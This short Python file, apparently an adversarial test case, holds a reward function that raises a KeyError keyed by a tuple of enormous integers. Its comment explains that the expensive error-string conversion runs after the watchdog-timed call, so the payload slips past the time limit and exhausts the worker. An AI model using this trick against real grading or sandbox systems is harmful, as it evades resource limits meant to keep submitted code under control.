# Attack: watchdog bypass — raise KeyError with a tuple of huge integers as its key; str(KeyError) is repr(key), computed after the call by the worker's error description.
BIG = 10**4299


def reward_function(params):
    raise KeyError(tuple([BIG] * 10000))
